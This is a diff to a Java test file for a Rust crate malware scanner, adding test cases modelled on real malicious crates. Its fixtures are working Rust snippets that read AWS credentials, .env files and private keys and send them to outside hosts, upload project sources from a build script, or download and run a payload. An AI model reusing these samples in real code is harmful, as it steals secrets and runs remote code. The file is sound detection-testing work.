@@ -32,6 +32,17 @@ class RealIncidentsTest {
         return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
     }
 
+    /** A crate of several files: {@code manifestExtra} goes under [package]'s table, files as path, text pairs. */
+    private CrateScan scanFiles(String name, String manifestExtra, String... pathsAndTexts) {
+        Path crate = dir.resolve(name);
+        write(crate, "Cargo.toml", "[package]\nname = \"" + name + "\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"
+                + manifestExtra);
+        for (int i = 0; i < pathsAndTexts.length; i += 2) {
+            write(crate, pathsAndTexts[i], pathsAndTexts[i + 1]);
+        }
+        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
+    }
+
     private static Finding finding(CrateScan scan, String id) {
         return scan.findings().stream().filter(f -> f.id().equals(id)).findFirst()
                 .orElseThrow(() -> new AssertionError(id + " not in " + scan.findings().stream()
@@ -61,8 +72,10 @@ class RealIncidentsTest {
                 """);
         Finding finding = finding(scan, "library-exfiltration");
         assertThat(finding.severity().label()).isEqualTo("high");
-        assertThat(finding.message()).contains("workers.dev");
-        assertThat(lines(finding)).contains(4, 6, 9);
+        assertThat(finding.message()).contains("files found by walking directories", "workers.dev");
+        assertThat(finding.evidence().getFirst().excerpt())
+                .isEqualTo("walk walkdir (4) → entry (4) → read (5) → text (5) → found (7) → post (10)");
+        assertThat(lines(finding)).containsExactly(4, 5, 7, 10);
     }
 
     /** rustdecimal (RUSTSEC-2022-0042): only under GitLab CI, downloads a binary, makes it executable, runs it. */
@@ -85,7 +98,9 @@ class RealIncidentsTest {
         Finding finding = finding(scan, "dropper-chain");
         assertThat(finding.severity().label()).isEqualTo("critical");
         assertThat(finding.message()).contains("only in CI", "GITLAB_CI");
-        assertThat(lines(finding)).contains(3, 4, 6, 7);
+        assertThat(finding.evidence().getFirst().excerpt())
+                .isEqualTo("download reqwest (4) → body (4) → write /tmp/git-updater.bin (6) → set_permissions (7)");
+        assertThat(lines(finding)).containsExactly(4, 6, 7, 9, 3);
     }
 
     /** The polymarket-* family (2025): private keys from the environment, sent to a server of the author's. */
@@ -116,7 +131,11 @@ class RealIncidentsTest {
                     }
                 }
                 """);
-        assertThat(finding(scan, "library-exfiltration").severity().label()).isEqualTo("high");
+        Finding finding = finding(scan, "library-exfiltration");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.message()).contains("the contents of .env flows into a connection or request");
+        assertThat(finding.evidence().getFirst().excerpt())
+                .isEqualTo("path .env (4) → candidate (4) → read (5) → text (5) → post (6)");
     }
 
     /** microsoftsystem64 (2025): writes the attacker's key into ~/.ssh/authorized_keys, path built in pieces. */
@@ -149,7 +168,10 @@ class RealIncidentsTest {
                     let _ = std::process::Command::new("nohup").arg(&target).spawn();
                 }
                 """);
-        assertThat(finding(scan, "dropper-chain").severity().label()).isEqualTo("high");
+        Finding finding = finding(scan, "dropper-chain");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.evidence().getFirst().excerpt())
+                .isEqualTo("download ureq (4) → body (4) → write target (6) → run (7)");
     }
 
     @Test
@@ -268,7 +290,130 @@ class RealIncidentsTest {
                 """);
         Finding finding = finding(scan, "library-exfiltration");
         assertThat(finding.severity().label()).isEqualTo("critical");
-        assertThat(finding.message()).contains("env AWS_SECRET_ACCESS_KEY (3) → key (3) → label (4) → host (5) "
-                + "→ to_socket_addrs (6)");
+        assertThat(finding.message()).contains("AWS_SECRET_ACCESS_KEY flows into a host name");
+        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("env AWS_SECRET_ACCESS_KEY (3) → key (3) "
+                + "→ label (4) → host (5) → to_socket_addrs (6)");
+        assertThat(lines(finding)).containsExactly(3, 4, 5, 6);
+    }
+
+    /** sha-rust (RUSTSEC-2025-0146): library code reads credential files; the upload lives in another module. */
+    @Test
+    void credentialFilesSentByAHelperInAnotherModuleAreHigh() {
+        CrateScan scan = scanFiles("sha-rust", "", "src/lib.rs", """
+                mod report;
+                pub fn digest(data: &[u8]) -> [u8; 32] {
+                    let home = std::env::var("HOME").unwrap_or_default();
+                    let path = std::path::Path::new(&home).join(".aws").join("credentials");
+                    if let Ok(text) = std::fs::read_to_string(&path) {
+                        report::submit(&text);
+                    }
+                    [0; 32]
+                }
+                """, "src/report.rs", """
+                pub fn submit(body: &str) {
+                    let _ = ureq::post("https://sha-metrics.online/collect").send_string(body);
+                }
+                """);
+        Finding finding = finding(scan, "library-exfiltration");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.message()).contains("the contents of .aws/credentials flows into a connection");
+        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("path .aws/credentials (4) → path (4) "
+                + "→ read (5) → text (5) → submit(…) (6) → post (src/report.rs:2)");
+        assertThat(finding.evidence()).anyMatch(e -> e.file().equals("src/report.rs") && e.line() == 2);
+    }
+
+    /** logprinter (RUSTSEC-2026-0084): its trace() downloads code and runs it, through two helpers. */
+    @Test
+    void aDownloadRunThroughHelpersIsADropper() {
+        CrateScan scan = scan("logprinter", "src/lib.rs", """
+                use std::io::Write;
+                fn fetch(url: &str) -> Vec<u8> {
+                    reqwest::blocking::get(url).and_then(|r| r.bytes()).map(|b| b.to_vec()).unwrap_or_default()
+                }
+                fn stage(path: &std::path::Path, data: &[u8]) {
+                    let mut f = std::fs::File::create(path).unwrap();
+                    f.write_all(data).unwrap();
+                }
+                fn launch(path: &std::path::Path) { let _ = std::process::Command::new(path).spawn(); }
+                pub fn trace(msg: &str) {
+                    println!("{msg}");
+                    let target = std::env::temp_dir().join(".lp-cache");
+                    let payload = fetch("https://logs-cdn.site/t");
+                    stage(&target, &payload);
+                    launch(&target);
+                }
+                """);
+        Finding finding = finding(scan, "dropper-chain");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.message()).contains("writes what it downloads to a file and runs it");
+        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("download reqwest (3) → fetch() (13) "
+                + "→ payload (13) → stage(…) (14) → write path (7) → launch(…) (15) → run (9)");
+    }
+
+    /** onering 1.4.1 (RUSTSEC-2026-0175): the build script sends the project's own code and metadata away. */
+    @Test
+    void aBuildScriptUploadingTheProjectsSourcesIsCritical() {
+        CrateScan scan = scanFiles("onering", "build = \"build.rs\"\n", "src/lib.rs", "pub fn ring() {}\n",
+                "build.rs", """
+                fn main() {
+                    let root = std::env::var("CARGO_MANIFEST_DIR").unwrap();
+                    let mut bundle = String::new();
+                    for entry in walkdir::WalkDir::new(&root).into_iter().flatten() {
+                        if let Ok(text) = std::fs::read_to_string(entry.path()) {
+                            bundle.push_str(&text);
+                        }
+                    }
+                    let _ = ureq::post("https://crates-telemetry.dev/u").send_string(&bundle);
+                }
+                """);
+        Finding finding = finding(scan, "exfiltration-pattern");
+        assertThat(finding.severity().label()).isEqualTo("critical");
+        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("walk walkdir (4) → entry (4) → read (5) "
+                + "→ text (5) → bundle (6) → post (9)");
+    }
+
+    /** A proc macro runs inside the compiler: reading a private key and posting it at expansion is critical. */
+    @Test
+    void aProcMacroThatSendsAPrivateKeyIsCritical() {
+        CrateScan scan = scanFiles("clob-derive", "[lib]\nproc-macro = true\n", "src/lib.rs", """
+                use proc_macro::TokenStream;
+                #[proc_macro_derive(Order)]
+                pub fn derive(input: TokenStream) -> TokenStream {
+                    if let Ok(key) = std::env::var("POLYMARKET_PRIVATE_KEY") {
+                        let _ = std::net::TcpStream::connect("45.61.1.9:443")
+                            .map(|mut s| std::io::Write::write_all(&mut s, key.as_bytes()));
+                    }
+                    input
+                }
+                """);
+        Finding finding = finding(scan, "exfiltration-pattern");
+        assertThat(finding.severity().label()).isEqualTo("critical");
+        assertThat(finding.message()).contains("proc macro");
+        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("env POLYMARKET_PRIVATE_KEY (4) → key (4) "
+                + "→ connect (5)");
+    }
+
+    /** An API client sends its own provider's token to that provider: not exfiltration. */
+    @Test
+    void anApiClientSendingItsProvidersTokenIsNoExfiltration() {
+        CrateScan scan = scan("gh-release", "src/lib.rs", """
+                pub fn latest(repo: &str) -> String {
+                    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
+                    ureq::get(&format!("https://api.github.com/repos/{repo}/releases/latest"))
+                        .set("Authorization", &format!("Bearer {token}"))
+                        .call().unwrap().into_string().unwrap()
+                }
+                """);
+        assertThat(scan.findings()).noneMatch(f -> f.id().equals("library-exfiltration"));
+        assertThat(scan.findings()).anyMatch(f -> f.id().equals("reads-secret-env")
+                && f.severity().label().equals("medium"));
+        // The same token sent to someone else's server is.
+        CrateScan stolen = scan("gh-release-2", "src/lib.rs", """
+                pub fn latest(repo: &str) -> String {
+                    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
+                    ureq::post("https://gh-mirror-cache.xyz/v1").send_string(&token).unwrap().into_string().unwrap()
+                }
+                """);
+        assertThat(finding(stolen, "library-exfiltration").severity().label()).isEqualTo("high");
     }
 }
